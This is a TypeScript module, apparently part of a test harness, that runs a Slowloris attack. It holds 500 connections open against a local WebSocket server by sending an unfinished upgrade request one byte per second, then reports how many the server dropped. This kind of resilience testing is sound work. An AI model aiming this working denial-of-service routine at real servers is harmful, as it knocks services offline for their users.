import { connect, type Socket } from 'node:net';
import { ConnectionEnd } from '../connection-end.js';
import { sleep } from '../flood-writer.js';
import type { Attack } from './attack.js';
import { summarizeEnds } from './summarize-ends.js';

/**
 * Slowloris: 500 connections each sending an upgrade request head one byte
 * per second, never finishing it within the attack. Reports how long the
 * server let them hang on.
 */
const CONNECTIONS = 500;

export const slowloris: Attack = async (config, started) => {
  const head = Buffer.from(
    `GET / HTTP/1.1\r\nHost: 127.0.0.1:${config.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
      `Sec-WebSocket-Key: c2xvd2xvcmlzLWtleS0xMg==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    'latin1',
  );
  const startedAt = performance.now();
  started();
  const deadline = startedAt + config.seconds * 1000;
  const sockets: { socket: Socket; end: ConnectionEnd; sent: number }[] = [];
  // Open in batches of 50 so the listen backlog does not overflow.
  for (let i = 0; i < CONNECTIONS; i += 50) {
    await Promise.all(
      Array.from({ length: Math.min(50, CONNECTIONS - i) }, () =>
        new Promise<void>((resolve) => {
          const socket = connect({ host: '127.0.0.1', port: config.port });
          const entry = { socket, end: new ConnectionEnd(socket, performance.now()), sent: 0 };
          sockets.push(entry);
          socket.once('connect', () => {
            socket.write(head.subarray(0, 1));
            entry.sent = 1;
            resolve();
          });
          socket.once('error', () => resolve());
        }),
      ),
    );
  }
  const ticker = setInterval(() => {
    for (const entry of sockets) {
      if (entry.end.dropped || entry.sent >= head.length - 1) continue;
      entry.socket.write(head.subarray(entry.sent, entry.sent + 1));
      entry.sent++;
    }
  }, 1000);
  while (performance.now() < deadline && !sockets.every((entry) => entry.end.dropped)) await sleep(100);
  clearInterval(ticker);
  const dropped = sockets.filter((entry) => entry.end.dropped).length;
  const summary = summarizeEnds(sockets.map((entry) => entry.end));
  for (const entry of sockets) entry.socket.destroy();
  return { dropped: `${dropped}/${CONNECTIONS} dropped: ${summary}`, note: `${CONNECTIONS} connections, 1 byte/s of the request head` };
};
